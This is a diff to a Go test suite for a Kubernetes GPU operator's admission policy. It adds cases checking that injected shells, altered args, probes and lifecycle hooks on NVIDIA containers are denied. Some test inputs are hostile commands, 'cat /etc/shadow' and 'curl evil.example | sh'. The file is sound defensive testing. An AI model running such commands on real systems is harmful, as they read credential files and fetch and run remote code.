@@ -38,6 +38,8 @@ const (
 	denyKubeVirtMeta  = "the sandbox-gpu operator may change no label of a KubeVirt CR"
 	denyEviction      = "the sandbox-gpu operator may evict pods only while the SandboxGPUPolicy sets spec.drain.evict"
 	denyPolicy        = "the sandbox-gpu operator may change only the finalizers of a SandboxGPUPolicy"
+	denyDriverCommand = "the sandbox-gpu operator runs NVIDIA's vGPU host driver only as nvidia-driver init (with the policy's args) and its own probes"
+	denyPluginCommand = "the sandbox-gpu operator runs NVIDIA's device plugin only as nvidia-device-plugin (with the policy's args), without probes or hooks"
 )
 
 // operatorClient acts as the operator's service account.
@@ -64,6 +66,8 @@ func admissionPolicy() *v1alpha1.SandboxGPUPolicySpec {
 	p.VGPUManager.Repository = "nvcr.example/nvidia/"
 	p.VGPUManager.Image = "vgpu-manager"
 	p.VGPUManager.Version = "550.90.05"
+	p.VGPUManager.Args = []string{"--debug"}
+	p.DevicePlugin.Args = []string{"--mig-strategy=single"}
 	return p
 }
 
@@ -176,6 +180,23 @@ func operatorAdmission(t *testing.T) {
 		}, denyCapabilities},
 		{"the host's PID namespace", names.Validator, func(ds *appsv1.DaemonSet, _ *corev1.Container) { ds.Spec.Template.Spec.HostPID = true }, denyHostNS},
 		{"the host's network", names.NRIPlugin, func(ds *appsv1.DaemonSet, _ *corev1.Container) { ds.Spec.Template.Spec.HostNetwork = true }, denyHostNS},
+		// NVIDIA's images have a shell: only the command, args and probes the operator builds.
+		{"a shell in the vGPU host driver", names.VGPUManager, func(_ *appsv1.DaemonSet, c *corev1.Container) {
+			c.Command, c.Args = []string{"sh", "-c", "cat /etc/shadow"}, nil
+		}, denyDriverCommand},
+		{"the vGPU host driver with other args", names.VGPUManager, func(_ *appsv1.DaemonSet, c *corev1.Container) { c.Args = []string{"init", "--evil"} }, denyDriverCommand},
+		{"the vGPU host driver's probe rewritten", names.VGPUManager, func(_ *appsv1.DaemonSet, c *corev1.Container) {
+			c.ReadinessProbe.Exec.Command = []string{"sh", "-c", "curl evil.example | sh"}
+		}, denyDriverCommand},
+		{"a lifecycle hook in the vGPU host driver", names.VGPUManager, func(_ *appsv1.DaemonSet, c *corev1.Container) {
+			c.Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"sh", "-c", "true"}}}}
+		}, denyDriverCommand},
+		{"a shell in NVIDIA's device plugin", names.NVIDIADevicePlugin, func(_ *appsv1.DaemonSet, c *corev1.Container) {
+			c.Command = []string{"sh", "-c", "cat /etc/shadow"}
+		}, denyPluginCommand},
+		{"a probe in NVIDIA's device plugin", names.NVIDIADevicePlugin, func(_ *appsv1.DaemonSet, c *corev1.Container) {
+			c.LivenessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"sh", "-c", "true"}}}}
+		}, denyPluginCommand},
 		{"the host's IPC namespace", names.VFIOManager, func(ds *appsv1.DaemonSet, _ *corev1.Container) { ds.Spec.Template.Spec.HostIPC = true }, denyHostNS},
 	} {
 		ds := build(tc.operand)
